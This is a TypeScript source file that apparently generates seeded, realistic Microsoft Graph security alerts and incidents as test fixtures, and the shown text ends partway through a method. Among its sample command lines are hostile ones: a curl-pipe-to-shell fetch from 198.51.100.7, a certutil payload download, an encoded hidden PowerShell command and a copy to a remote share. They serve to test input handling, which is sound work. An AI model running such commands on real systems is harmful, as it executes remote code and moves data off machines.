/**
 * Realistic Microsoft Graph security documents (`alerts_v2` alerts and incidents), shaped
 * exactly as Graph returns them: camelCase, ISO 8601 UTC timestamps with 7 fractional
 * digits, `@odata.type` on every evidence item. Generation is deterministic for a given
 * seed and timestamps, so tests are reproducible.
 *
 * Some content is deliberately hostile (XML metacharacters, `]]>`, control characters, a
 * lone surrogate, emoji, very long command lines) and one evidence kind is unknown to
 * today's schema, because the add-on must pass all of it through untouched.
 */
import { formatTicks } from './odata.js';

// ---------------------------------------------------------------------------------------
// Enumerations (members after `unknownFutureValue` are "evolvable": Graph only returns them
// when the request sends `Prefer: include-unknown-enum-members`).

export const ALERT_STATUSES = ['unknown', 'new', 'inProgress', 'resolved', 'unknownFutureValue'] as const;
export const SEVERITIES = ['unknown', 'informational', 'low', 'medium', 'high', 'unknownFutureValue'] as const;
export const CLASSIFICATIONS = ['unknown', 'falsePositive', 'truePositive', 'informationalExpectedActivity', 'unknownFutureValue'] as const;
export const DETERMINATIONS = [
  'unknown', 'apt', 'malware', 'securityPersonnel', 'securityTesting', 'unwantedSoftware', 'other',
  'multiStagedAttack', 'compromisedAccount', 'phishing', 'maliciousUserActivity', 'notMalicious',
  'notEnoughDataToValidate', 'confirmedActivity', 'lineOfBusinessApplication', 'unknownFutureValue',
] as const;
export const SERVICE_SOURCES = [
  'unknown', 'microsoftDefenderForEndpoint', 'microsoftDefenderForIdentity', 'microsoftDefenderForCloudApps',
  'microsoftDefenderForOffice365', 'microsoft365Defender', 'azureAdIdentityProtection', 'microsoftAppGovernance',
  'dataLossPrevention', 'unknownFutureValue', 'microsoftDefenderForCloud', 'microsoftSentinel',
  'microsoftInsiderRiskManagement',
] as const;
export const DETECTION_SOURCES = [
  'unknown', 'microsoftDefenderForEndpoint', 'antivirus', 'smartScreen', 'customTi', 'microsoftDefenderForOffice365',
  'automatedInvestigation', 'microsoftThreatExperts', 'customDetection', 'microsoftDefenderForIdentity',
  'cloudAppSecurity', 'microsoft365Defender', 'azureAdIdentityProtection', 'manual', 'microsoftDataLossPrevention',
  'appGovernancePolicy', 'appGovernanceDetection', 'unknownFutureValue', 'microsoftDefenderForCloud',
  'microsoftDefenderForIoT', 'microsoftDefenderForServers', 'microsoftDefenderForStorage', 'microsoftDefenderForDNS',
  'microsoftDefenderForDatabases', 'microsoftDefenderForContainers', 'microsoftDefenderForNetwork',
  'microsoftDefenderForAppService', 'microsoftDefenderForKeyVault', 'microsoftDefenderForResourceManager',
  'microsoftDefenderForApiManagement', 'nrtAlerts', 'scheduledAlerts', 'microsoftSentinel',
] as const;
export const INCIDENT_STATUSES = ['active', 'resolved', 'inProgress', 'redirected', 'unknownFutureValue', 'awaitingAction'] as const;

export type AlertStatus = (typeof ALERT_STATUSES)[number];
export type AlertSeverity = (typeof SEVERITIES)[number];
export type AlertClassification = (typeof CLASSIFICATIONS)[number];
export type AlertDetermination = (typeof DETERMINATIONS)[number];
export type ServiceSource = (typeof SERVICE_SOURCES)[number];
export type DetectionSource = (typeof DETECTION_SOURCES)[number];
export type IncidentStatus = (typeof INCIDENT_STATUSES)[number];

/** The members a client only sees with `Prefer: include-unknown-enum-members`. */
export function evolvableMembers(members: readonly string[]): ReadonlySet<string> {
  return new Set(members.slice(members.indexOf('unknownFutureValue') + 1));
}

// ---------------------------------------------------------------------------------------
// Shapes

export interface AlertComment {
  comment: string;
  createdByDisplayName: string;
  createdDateTime: string;
}

export interface EvidenceCommon {
  '@odata.type': string;
  createdDateTime: string;
  verdict: 'unknown' | 'suspicious' | 'malicious' | 'noThreatsFound' | 'unknownFutureValue';
  remediationStatus: 'none' | 'remediated' | 'prevented' | 'blocked' | 'notFound' | 'unknownFutureValue';
  remediationStatusDetails: string | null;
  roles: string[];
  detailedRoles: string[];
  tags: string[];
}

export interface UserAccount {
  accountName: string;
  domainName: string | null;
  userSid: string | null;
  azureAdUserId: string | null;
  userPrincipalName: string | null;
  displayName: string | null;
}

export interface FileDetails {
  sha1: string | null;
  sha256: string | null;
  md5?: string | null;
  fileName: string;
  filePath: string;
  fileSize: number | null;
  filePublisher: string | null;
  signer: string | null;
  issuer: string | null;
}

export interface DeviceEvidence extends EvidenceCommon {
  '@odata.type': '#microsoft.graph.security.deviceEvidence';
  firstSeenDateTime: string;
  mdeDeviceId: string;
  azureAdDeviceId: string | null;
  deviceDnsName: string;
  hostName: string;
  ntDomain: string | null;
  dnsDomain: string | null;
  osPlatform: string;
  osBuild: number;
  version: string;
  healthStatus: string;
  riskScore: string;
  rbacGroupId: number;
  rbacGroupName: string;
  onboardingStatus: string;
  defenderAvStatus: string;
  ipInterfaces: string[];
  loggedOnUsers: { accountName: string; domainName: string }[];
  vmMetadata: { vmId: string; cloudProvider: string; resourceId: string; subscriptionId: string } | null;
}

export interface ProcessEvidence extends EvidenceCommon {
  '@odata.type': '#microsoft.graph.security.processEvidence';
  processId: number;
  parentProcessId: number;
  processCommandLine: string;
  processCreationDateTime: string;
  parentProcessCreationDateTime: string;
  detectionStatus: 'detected' | 'blocked' | 'prevented' | null;
  mdeDeviceId: string;
  imageFile: FileDetails;
  parentProcessImageFile: FileDetails;
  userAccount: UserAccount;
}

export interface FileEvidence extends EvidenceCommon {
  '@odata.type': '#microsoft.graph.security.fileEvidence';
  detectionStatus: 'detected' | 'blocked' | 'prevented' | null;
  mdeDeviceId: string | null;
  fileDetails: FileDetails;
}

export interface UserEvidence extends EvidenceCommon {
  '@odata.type': '#microsoft.graph.security.userEvidence';
  userAccount: UserAccount;
}

export interface IpEvidence extends EvidenceCommon {
  '@odata.type': '#microsoft.graph.security.ipEvidence';
  ipAddress: string;
  countryLetterCode: string | null;
  location: { city: string; countryName: string; latitude: number; longitude: number; state: string | null } | null;
}

export interface UrlEvidence extends EvidenceCommon {
  '@odata.type': '#microsoft.graph.security.urlEvidence';
  url: string;
}

export interface MailboxEvidence extends EvidenceCommon {
  '@odata.type': '#microsoft.graph.security.mailboxEvidence';
  primaryAddress: string;
  displayName: string;
  userAccount: UserAccount;
}

export interface EmailSender {
  displayName: string | null;
  domainName: string;
  emailAddress: string;
}

export interface AnalyzedMessageEvidence extends EvidenceCommon {
  '@odata.type': '#microsoft.graph.security.analyzedMessageEvidence';
  networkMessageId: string;
  internetMessageId: string;
  subject: string;
  senderIp: string;
  recipientEmailAddress: string;
  p1Sender: EmailSender;
  p2Sender: EmailSender;
  antiSpamDirection: string;
  deliveryAction: string;
  deliveryLocation: string;
  language: string;
  receivedDateTime: string;
  threatDetectionMethods: string[];
  threats: string[];
  urlCount: number;
  urls: string[];
  attachmentsCount: number;
  urn: string;
}

/** Any other evidence kind, including ones newer than this code: must pass through untouched. */
export interface OtherEvidence extends EvidenceCommon {
  [property: string]: unknown;
}

export type AlertEvidence =
  | DeviceEvidence
  | ProcessEvidence
  | FileEvidence
  | UserEvidence
  | IpEvidence
  | UrlEvidence
  | MailboxEvidence
  | AnalyzedMessageEvidence
  | OtherEvidence;

export interface Alert {
  '@odata.type': '#microsoft.graph.security.alert';
  id: string;
  providerAlertId: string;
  incidentId: string;
  status: AlertStatus;
  severity: AlertSeverity;
  classification: AlertClassification;
  determination: AlertDetermination;
  serviceSource: ServiceSource;
  detectionSource: DetectionSource;
  productName: string;
  detectorId: string;
  tenantId: string;
  title: string;
  description: string;
  recommendedActions: string;
  category: string;
  assignedTo: string | null;
  alertWebUrl: string;
  incidentWebUrl: string;
  actorDisplayName: string | null;
  threatDisplayName: string | null;
  threatFamilyName: string | null;
  mitreTechniques: string[];
  createdDateTime: string;
  lastUpdateDateTime: string;
  resolvedDateTime: string | null;
  firstActivityDateTime: string;
  lastActivityDateTime: string;
  comments: AlertComment[];
  evidence: AlertEvidence[];
  systemTags: string[];
  alertPolicyId: string | null;
  additionalData: Record<string, unknown>;
}

export interface Incident {
  '@odata.type': '#microsoft.graph.security.incident';
  id: string;
  incidentWebUrl: string;
  tenantId: string;
  redirectIncidentId: string | null;
  displayName: string;
  description: string | null;
  summary: string | null;
  createdDateTime: string;
  lastUpdateDateTime: string;
  assignedTo: string | null;
  classification: AlertClassification;
  determination: AlertDetermination;
  status: IncidentStatus;
  severity: AlertSeverity;
  customTags: string[];
  systemTags: string[];
  comments: AlertComment[];
  resolvingComment: string | null;
  /** Only returned with `$expand=alerts`; the store always keeps the embedded copies. */
  alerts?: Alert[];
}

// ---------------------------------------------------------------------------------------
// Seeded randomness

/** mulberry32: tiny, fast and good enough for test data. */
export class Random {
  private state: number;
  constructor(seed: number) {
    this.state = seed >>> 0;
  }
  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1));
  }
  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)]!;
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  hex(length: number): string {
    let s = '';
    while (s.length < length) s += Math.floor(this.next() * 16).toString(16);
    return s;
  }
  guid(): string {
    const h = this.hex(32);
    return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${'89ab'[this.int(0, 3)]}${h.slice(17, 20)}-${h.slice(20)}`;
  }
  /** A uniformly random tick count in [0, range]. */
  ticks(range: bigint): bigint {
    if (range <= 0n) return 0n;
    return BigInt(Math.floor(this.next() * Number(range + 1n)));
  }
}

// ---------------------------------------------------------------------------------------
// Time helpers (100 ns ticks keep Graph's 7 fractional digits exact)

export const TICKS_PER_MS = 10_000n;

export function dateToTicks(d: Date): bigint {
  return BigInt(d.getTime()) * TICKS_PER_MS;
}

/** Graph-style activity times carry only milliseconds. */
function msPrecision(ticks: bigint): string {
  return `${formatTicks(ticks).slice(0, 23)}Z`;
}

// ---------------------------------------------------------------------------------------
// Fixtures

interface Person {
  accountName: string;
  displayName: string;
}

const PEOPLE: readonly Person[] = [
  { accountName: 'adele.vance', displayName: 'Adele Vance' },
  { accountName: 'alex.wilber', displayName: 'Alex Wilber' },
  { accountName: 'megan.bowen', displayName: 'Megan Bowen' },
  { accountName: 'nestor.wilke', displayName: 'Nestor Wilke' },
  { accountName: 'joni.sherman', displayName: 'Joni Sherman' },
  { accountName: 'lynne.robbins', displayName: 'Lynne Robbins' },
  { accountName: 'diego.siciliani', displayName: 'Diego Siciliani' },
  { accountName: 'svc-backup', displayName: 'Backup Service' },
];
const DOMAIN = 'contoso.com';
const NT_DOMAIN = 'CONTOSO';
const ANALYSTS = ['secops@contoso.com', 'KaiC@contoso.onmicrosoft.com', 'DavidS@contoso.onmicrosoft.com', 'API-App:defender-splunk'];
const HOST_PREFIXES = ['wks', 'lap', 'srv-file', 'srv-sql', 'dc', 'kiosk'];
const OS = [
  { osPlatform: 'Windows11', osBuild: 22631, version: '23H2' },
  { osPlatform: 'Windows10', osBuild: 19045, version: '22H2' },
  { osPlatform: 'WindowsServer2022', osBuild: 20348, version: 'Other' },
  { osPlatform: 'Linux', osBuild: 0, version: 'Ubuntu 22.04' },
  { osPlatform: 'macOS', osBuild: 0, version: '14.4' },
];
const COUNTRIES = [
  { code: 'US', country: 'United States', city: 'Seattle', state: 'Washington', lat: 47.6, lon: -122.3 },
  { code: 'NL', country: 'Netherlands', city: 'Amsterdam', state: null, lat: 52.37, lon: 4.89 },
  { code: 'RU', country: 'Russia', city: 'Moscow', state: null, lat: 55.75, lon: 37.61 },
  { code: 'BR', country: 'Brazil', city: 'São Paulo', state: 'São Paulo', lat: -23.55, lon: -46.63 },
  { code: 'JP', country: 'Japan', city: '東京', state: null, lat: 35.68, lon: 139.69 },
];
const ACTORS = [null, null, null, 'Storm-0501', 'Midnight Blizzard', 'Octo Tempest', 'Mint Sandstorm'];

const RECOMMENDED_ACTIONS = [
  'Collect artifacts and determine scope',
  '\u2022\tReview the machine timeline for suspicious activities that may have occurred before and after the time of the alert, and record additional related artifacts (files, IPs/URLs).',
  '\u2022\tLook for the presence of relevant artifacts on other systems. Identify commonalities and differences between potentially compromised systems.',
  '\u2022\tSubmit relevant files for deep analysis and review resulting detailed behavioral information.',
  '',
  'Initiate containment & mitigation',
  '\u2022\tContact the user to verify intent and initiate local remediation actions as needed.',
  '\u2022\tUpdate AV signatures and run a full scan. The scan might reveal and remove previously-undetected malware components.',
  '\u2022\tEnsure that the machine has the latest security updates installed.',
  '\u2022\tIf credential theft is suspected, reset all relevant users\u2019 passwords.',
  '\u2022\tBlock communication with relevant URLs or IPs at the organization\u2019s perimeter.',
].join('\n');

const SHORT_RECOMMENDED_ACTIONS = 'Review the related entities and activity, then confirm with the user whether it was expected. Reset credentials and revoke sessions if the account is compromised.';

/**
 * Command lines an add-on must survive: XML/HTML metacharacters, CDATA terminators,
 * quotes, C0 control characters, a lone UTF-16 surrogate, emoji and a very long value.
 */
const HOSTILE_COMMAND_LINES: readonly (() => string)[] = [
  () => `cmd.exe /c "echo <script>alert('pwn')</script> & type C:\\Users\\Public\\a.txt > \\\\10.0.0.5\\c$\\out.txt"`,
  () => `powershell.exe -c "Write-Output ']]><![CDATA[<x/>]]>' | Out-File \\"C:\\Temp\\x & y.xml\\""`,
  () => `rundll32.exe "C:\\ProgramData\\a.dll",Start \u0000\u0001\u001b[31mRED\u001b[0m\ttab\r\nnewline`,
  () => `notepad.exe "C:\\Users\\adele.vance\\Desktop\\r\u00e9sum\u00e9 \ud83d\udcc4\ud83d\udd25 \ud800 broken.txt"`,
  () => `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'.repeat(75)}`,
  () => `bash -c 'curl -s "http://198.51.100.7/x.sh?a=1&b=<2>" | sh' # "quoted" \\ backslash`,
];

const BENIGN_COMMAND_LINES = [
  '"MsSense.exe"',
  'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
  '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\megan.bowen\\Downloads\\Invoice_2291.docm"',
  'powershell.exe -ExecutionPolicy Bypass -File C:\\Windows\\Temp\\inventory.ps1',
  'certutil.exe -urlcache -split -f http://203.0.113.44/p.bin C:\\Users\\Public\\p.bin',
  '/usr/bin/python3 /tmp/.cache/update.py --beacon 30',
];

// ---------------------------------------------------------------------------------------
// Alert templates per producing service

interface Scenario {
  title: string;
  category: string;
  mitre: string[];
  description: string;
  threat?: { display: string; family: string };
}

type EvidenceKind =
  | 'device' | 'process' | 'file' | 'user' | 'ip' | 'url' | 'mailbox' | 'analyzedMessage'
  | 'registryKey' | 'cloudApplication' | 'oauthApplication' | 'azureResource';

interface Template {
  serviceSource: ServiceSource;
  productName: string;
  idPrefix: string;
  detectionSources: readonly DetectionSource[];
  scenarios: readonly Scenario[];
  evidence: readonly EvidenceKind[];
  optionalEvidence: readonly EvidenceKind[];
}

const TEMPLATES: Readonly<Record<string, Template>> = {
  mde: {
    serviceSource: 'microsoftDefenderForEndpoint',
    productName: 'Microsoft Defender for Endpoint',
    idPrefix: 'da',
    detectionSources: ['microsoftDefenderForEndpoint', 'microsoftDefenderForEndpoint', 'antivirus', 'automatedInvestigation', 'customDetection', 'smartScreen'],
    scenarios: [
      { title: 'Suspicious execution of hidden file', category: 'DefenseEvasion', mitre: ['T1564.001'], description: 'A hidden file has been launched. This activity could indicate a compromised host. Attackers often hide files associated with malicious tools to evade file system inspection and defenses.' },
      { title: "'Wacatac' malware was detected", category: 'Malware', mitre: ['T1204.002'], description: 'Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on affected machines. This detection might indicate that the malware was stopped from delivering its payload.', threat: { display: 'Trojan:Win32/Wacatac.B!ml', family: 'Wacatac' } },
      { title: 'Suspicious PowerShell command line', category: 'Execution', mitre: ['T1059.001', 'T1027'], description: 'A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities which are used by attackers to invoke modules, download external payloads, or get more information about the system.' },
      { title: 'Possible credential theft activity via LSASS memory access', category: 'CredentialAccess', mitre: ['T1003.001'], description: 'A process accessed the memory of the Local Security Authority Subsystem Service (LSASS) in a way that is consistent with credential dumping tools. Attackers use harvested credentials to move laterally within the network.' },
      { title: "Ransomware behavior detected in the file system", category: 'Ransomware', mitre: ['T1486', 'T1490'], description: 'A process modified a large number of files and appended an unusual extension, a pattern that is typical of ransomware encrypting user data. The activity may be part of a human-operated ransomware campaign.', threat: { display: 'Ransom:Win32/LockBit.MK', family: 'LockBit' } },
    ],
    evidence: ['device', 'process', 'file', 'user'],
    optionalEvidence: ['ip', 'url', 'registryKey'],
  },
  mdo: {
    serviceSource: 'microsoftDefenderForOffice365',
    productName: 'Microsoft Defender for Office 365',
    idPrefix: 'fa',
    detectionSources: ['microsoftDefenderForOffice365'],
    scenarios: [
      { title: 'Email messages containing malicious URL removed after delivery', category: 'InitialAccess', mitre: ['T1566.002'], description: 'Emails with a malicious URL that were delivered and later removed (ZAP). The URL was detonated and identified as a credential phishing page impersonating a Microsoft 365 sign-in.' },
      { title: 'A potentially malicious URL click was detected', category: 'InitialAccess', mitre: ['T1566.002', 'T1204.001'], description: 'We have detected that one of your users has recently clicked on a link that was found to be malicious. Review the user and message details and consider resetting the user credentials.' },
      { title: 'Email reported by user as malware or phish', category: 'InitialAccess', mitre: ['T1566.001'], description: 'A user reported an email message as phish or malware. The message has been submitted for analysis and the result will be attached to this alert.' },
    ],
    evidence: ['mailbox', 'analyzedMessage', 'url', 'user'],
    optionalEvidence: ['ip', 'file'],
  },
  mdi: {
    serviceSource: 'microsoftDefenderForIdentity',
    productName: 'Microsoft Defender for Identity',
    idPrefix: 'aa',
    detectionSources: ['microsoftDefenderForIdentity'],
    scenarios: [
      { title: 'Suspected DCSync attack (replication of directory services)', category: 'CredentialAccess', mitre: ['T1003.006'], description: 'A replication request was sent from a machine that is not a domain controller. An attacker who obtains replication rights can retrieve password hashes of any account, including krbtgt.' },
      { title: 'Suspected Brute Force attack (Kerberos, NTLM)', category: 'CredentialAccess', mitre: ['T1110.003'], description: 'Many failed authentication attempts were made against multiple accounts from a single source, followed by a successful authentication. This may indicate password spraying.' },
    ],
    evidence: ['user', 'device', 'ip'],
    optionalEvidence: ['user'],
  },
  mdca: {
    serviceSource: 'microsoftDefenderForCloudApps',
    productName: 'Microsoft Defender for Cloud Apps',
    idPrefix: 'ca',
    detectionSources: ['cloudAppSecurity'],
    scenarios: [
      { title: 'Impossible travel activity', category: 'InitialAccess', mitre: ['T1078.004'], description: 'The user signed in from two geographically distant locations within a time period shorter than the time it would have taken to travel between them.' },
      { title: 'Mass download by a single user', category: 'Exfiltration', mitre: ['T1530'], description: 'A user downloaded an unusually large number of files from SharePoint Online in a single session compared to the baseline learned for this user.' },
    ],
    evidence: ['user', 'ip', 'cloudApplication'],
    optionalEvidence: ['url'],
  },
  aadip: {
    serviceSource: 'azureAdIdentityProtection',
    productName: 'Microsoft Entra ID Protection',
    idPrefix: 'ad',
    detectionSources: ['azureAdIdentityProtection'],
    scenarios: [
      { title: 'Anonymous IP address', category: 'InitialAccess', mitre: ['T1090.003'], description: 'A sign-in was made from an anonymous IP address, such as a Tor exit node or an anonymizing VPN.' },
      { title: 'Leaked credentials', category: 'CredentialAccess', mitre: ['T1589.001'], description: "The user's valid credentials were found in a public repository or paste site." },
    ],
    evidence: ['user', 'ip'],
    optionalEvidence: [],
  },
  m365d: {
    serviceSource: 'microsoft365Defender',
    productName: 'Microsoft Defender XDR',
    idPrefix: 'ed',
    detectionSources: ['microsoft365Defender', 'customDetection'],
    scenarios: [
      { title: 'Suspicious inbox manipulation rule', category: 'DefenseEvasion', mitre: ['T1564.008'], description: 'A suspicious inbox rule was created that moves or deletes messages matching security-related keywords. Attackers do this to hide notifications after compromising a mailbox.' },
      { title: 'Custom detection: rare parent for cmd.exe', category: 'Execution', mitre: ['T1059.003'], description: 'Custom detection rule "Rare parent for cmd.exe" matched. Query results are attached as evidence.' },
    ],
    evidence: ['user', 'mailbox', 'device'],
    optionalEvidence: ['ip', 'process'],
  },
  dlp: {
    serviceSource: 'dataLossPrevention',
    productName: 'Microsoft Data Loss Prevention',
    idPrefix: 'dl',
    detectionSources: ['microsoftDataLossPrevention'],
    scenarios: [
      { title: "DLP policy (Credit card numbers) matched for email with subject 'Q3 payments'", category: 'Exfiltration', mitre: [], description: 'Content matching the sensitive information type "Credit Card Number" was shared externally and matched a DLP policy rule.' },
    ],
    evidence: ['user', 'file'],
    optionalEvidence: ['mailbox'],
  },
  appgov: {
    serviceSource: 'microsoftAppGovernance',
    productName: 'App governance',
    idPrefix: 'ga',
    detectionSources: ['appGovernanceDetection', 'appGovernancePolicy'],
    scenarios: [
      { title: 'App with suspicious OAuth scope made Graph calls to read email', category: 'Collection', mitre: ['T1114.002'], description: 'An OAuth app with Mail.Read permission made an unusual volume of Graph calls to read users\u2019 mailboxes.' },
    ],
    evidence: ['oauthApplication', 'user'],
    optionalEvidence: ['ip'],
  },
  mdc: {
    serviceSource: 'microsoftDefenderForCloud',
    productName: 'Microsoft Defender for Cloud',
    idPrefix: 'ma',
    detectionSources: ['microsoftDefenderForServers', 'microsoftDefenderForStorage', 'microsoftDefenderForKeyVault', 'microsoftDefenderForContainers'],
    scenarios: [
      { title: 'Suspicious process executed on virtual machine', category: 'Execution', mitre: ['T1059'], description: 'Machine logs indicate that a suspicious process was executed on the virtual machine. Defender for Servers flagged the command as associated with crypto-mining toolkits.' },
      { title: 'Access from a Tor exit node to a storage account', category: 'InitialAccess', mitre: ['T1090.003'], description: 'A storage account was accessed successfully from an IP address that is known as an active exit node of Tor.' },
    ],
    evidence: ['azureResource', 'ip', 'process'],
    optionalEvidence: ['user'],
  },
};

/** Weighted mix of producers, MDE dominating as in most tenants. */
const TEMPLATE_MIX: readonly string[] = [
  'mde', 'mde', 'mde', 'mde', 'mde', 'mdo', 'mdo', 'mdi', 'mdca', 'aadip', 'm365d', 'dlp', 'appgov',
];

// ---------------------------------------------------------------------------------------
// Generator

export interface DocumentGeneratorOptions {
  tenantId: string;
  seed?: number;
}

export interface AlertInput {
  createdTicks: bigint;
  lastUpdateTicks: bigint;
  incidentId: string;
  /** Only this product's alerts (e.g. 'mde' for the Defender for Endpoint API); default: the usual mix. */
  template?: string;
}

export interface IncidentInput {
  id: string;
  createdTicks: bigint;
  lastUpdateTicks: bigint;
  alerts: Alert[];
  /** An earlier incident this one may have been merged into. */
  redirectCandidate?: string;
}

interface EvidenceContext {
  created: string;
  createdTicks: bigint;
  host: DeviceFacts;
  person: Person;
  malicious: boolean;
}

interface DeviceFacts {
  hostName: string;
  mdeDeviceId: string;
  azureAdDeviceId: string;
  ip: string;
  os: (typeof OS)[number];
}

export class DocumentGenerator {
  private readonly rng: Random;
  private alertCount = 0;
  private incidentCount = 0;
  private processCount = 0;
  private nextIncidentNumber = 28_000;
  private readonly tenantId: string;

  constructor(opts: DocumentGeneratorOptions) {
    this.rng = new Random(opts.seed ?? 1);
    this.tenantId = opts.tenantId;
  }

  /** Incident ids are numeric strings that never repeat, also for alerts without a stored incident. */
  nextIncidentId(): string {
    this.nextIncidentNumber += this.rng.int(1, 7);
    return String(this.nextIncidentNumber);
  }

  /** Sub-millisecond digits, so timestamps look like Graph's (`…:12.3266667Z`). */
  jitterTicks(): bigint {
    return this.rng.ticks(TICKS_PER_MS - 1n);
  }

  /** A seeded offset in [0, range] ticks, for spreading timestamps. */
  randomTicks(range: bigint): bigint {
    return this.rng.ticks(range);
  }

  alert(input: AlertInput): Alert {
    this.alertCount++;
    const template = input.template ? TEMPLATES[input.template]! : this.chooseTemplate();
    const scenario = this.rng.pick(template.scenarios);
    const id = this.alertId(template);
    const created = formatTicks(input.createdTicks);
    const severity = this.rng.pick<AlertSeverity>(['informational', 'low', 'medium', 'medium', 'high', 'high']);
    const status = this.rng.pick<AlertStatus>(['new', 'new', 'new', 'inProgress', 'resolved']);
    const verdict = this.resolution(status);
    const ctx = this.evidenceContext(created, input.createdTicks, severity);
    const firstActivity = input.createdTicks - this.rng.ticks(6n * 3600n * 1000n * TICKS_PER_MS) - 60n * 1000n * TICKS_PER_MS;
    const lastActivity = firstActivity + this.rng.ticks(input.createdTicks - firstActivity);
    return {
      '@odata.type': '#microsoft.graph.security.alert',
      id,
      providerAlertId: template.idPrefix === 'da' ? id : this.rng.guid(),
      incidentId: input.incidentId,
      status,
      severity,
      classification: verdict.classification,
      determination: verdict.determination,
      serviceSource: template.serviceSource,
      detectionSource: this.rng.pick(template.detectionSources),
      productName: template.productName,
      detectorId: this.rng.guid(),
      tenantId: this.tenantId,
      title: scenario.title,
      description: scenario.description,
      recommendedActions: template.idPrefix === 'da' ? RECOMMENDED_ACTIONS : SHORT_RECOMMENDED_ACTIONS,
      category: scenario.category,
      assignedTo: status === 'new' ? null : this.rng.pick(ANALYSTS),
      alertWebUrl: `https://security.microsoft.com/alerts/${id}?tid=${this.tenantId}`,
      incidentWebUrl: `https://security.microsoft.com/incidents/${input.incidentId}?tid=${this.tenantId}`,
      actorDisplayName: this.rng.pick(ACTORS),
      threatDisplayName: scenario.threat?.display ?? null,
      threatFamilyName: scenario.threat?.family ?? null,
      mitreTechniques: [...scenario.mitre],
      createdDateTime: created,
      lastUpdateDateTime: formatTicks(input.lastUpdateTicks),
      resolvedDateTime: status === 'resolved' ? formatTicks(input.lastUpdateTicks) : null,
      firstActivityDateTime: msPrecision(firstActivity),
      lastActivityDateTime: msPrecision(lastActivity),
      comments: this.comments(input.createdTicks, status),
      evidence: this.evidenceFor(template, ctx),
      systemTags: this.rng.chance(0.15) ? ['Defender Experts'] : [],
      alertPolicyId: template.idPrefix === 'da' ? null : this.rng.guid(),
      additionalData: this.additionalData(template),
    };
  }

  incident(input: IncidentInput): Incident {
    this.incidentCount++;
    const status = this.incidentStatus(input.redirectCandidate);
    const verdict = this.resolution(status === 'resolved' ? 'resolved' : 'new');
    const severity = highestSeverity(input.alerts);
    const alertTitles = [...new Set(input.alerts.map((a) => a.title))];
    const multi = alertTitles.length > 1;
    const first = alertTitles[0] ?? 'Suspicious activity';
    return {
      '@odata.type': '#microsoft.graph.security.incident',
      id: input.id,
      incidentWebUrl: `https://security.microsoft.com/incidents/${input.id}?tid=${this.tenantId}`,
      tenantId: this.tenantId,
      redirectIncidentId: status === 'redirected' ? (input.redirectCandidate ?? null) : null,
      displayName: multi
        ? `Multi-stage incident involving ${input.alerts.map((a) => a.category).filter(unique).join(' & ')} on multiple endpoints reported by multiple sources`
        : `${first} on one endpoint`,
      description: this.rng.chance(0.5)
        ? `Microsoft observed activity consistent with ${first.toLowerCase()} in your environment. Review the related alerts and affected assets.`
        : null,
      summary: this.rng.chance(0.3) ? `Attack disruption status: ${this.rng.pick(['not triggered', 'contained', 'partially contained'])}.` : null,
      createdDateTime: formatTicks(input.createdTicks),
      lastUpdateDateTime: formatTicks(input.lastUpdateTicks),
      assignedTo: status === 'active' ? null : this.rng.pick(ANALYSTS),
      classification: verdict.classification,
      determination: verdict.determination,
      status,
      severity,
      customTags: this.rng.chance(0.3) ? ['Demo', 'Tier2 <escalated> & "watch"'] : [],
      systemTags: this.rng.chance(0.2) ? ['Defender Experts'] : [],
      comments: this.comments(input.createdTicks, status === 'resolved' ? 'resolved' : 'inProgress'),
      resolvingComment: status === 'resolved' ? 'Closed after review: host reimaged and credentials reset.' : null,
      alerts: input.alerts,
    };
  }

  // --- alert parts -----------------------------------------------------------------------

  /** Every 7th alert comes from Defender for Cloud so the evolvable serviceSource shows up early. */
  private chooseTemplate(): Template {
    if (this.alertCount % 7 === 0) return TEMPLATES.mdc!;
    if (this.alertCount <= 2) return TEMPLATES.mde!; // first alerts are MDE: richest evidence
    return TEMPLATES[this.rng.pick(TEMPLATE_MIX)]!;
  }

  private alertId(template: Template): string {
    if (template.idPrefix !== 'da') return `${template.idPrefix}${this.rng.guid()}`;
    // MDE ids: "da" + 18 digits (from a .NET tick count) + "_" + a signed 32-bit hash.
    const digits = (637_551_227_677_560_813n + BigInt(this.alertCount) * 7_919_000_000n).toString();
    const hash = this.rng.int(-2_147_483_648, 2_147_483_647);
    return `da${digits}_${hash}`;
  }

  private resolution(status: string): { classification: AlertClassification; determination: AlertDetermination } {
    if (status !== 'resolved') {
      return this.rng.chance(0.85)
        ? { classification: 'unknown', determination: 'unknown' }
        : { classification: 'truePositive', determination: 'multiStagedAttack' };
    }
    return this.rng.pick([
      { classification: 'truePositive', determination: 'malware' },
      { classification: 'truePositive', determination: 'phishing' },
      { classification: 'truePositive', determination: 'compromisedAccount' },
      { classification: 'falsePositive', determination: 'notMalicious' },
      { classification: 'informationalExpectedActivity', determination: 'securityTesting' },
      { classification: 'informationalExpectedActivity', determination: 'lineOfBusinessApplication' },
    ] as const);
  }

  private comments(createdTicks: bigint, status: string): AlertComment[] {
    if (status === 'new' || this.rng.chance(0.4)) return [];
    const count = this.rng.int(1, 2);
    const texts = [
      'Escalated to tier 2 & notified the device owner <adele.vance@contoso.com>.',
      'Isolated the device; collecting investigation package.',
      'Confirmed with the user: they did not run this "update".',
    ];
    return Array.from({ length: count }, (_, i) => ({
      comment: texts[(i + this.rng.int(0, 2)) % texts.length]!,
      createdByDisplayName: this.rng.pick(ANALYSTS),
      createdDateTime: formatTicks(createdTicks + BigInt(i + 1) * 600n * 1000n * TICKS_PER_MS + this.jitterTicks()),
    }));
  }

  private additionalData(template: Template): Record<string, unknown> {
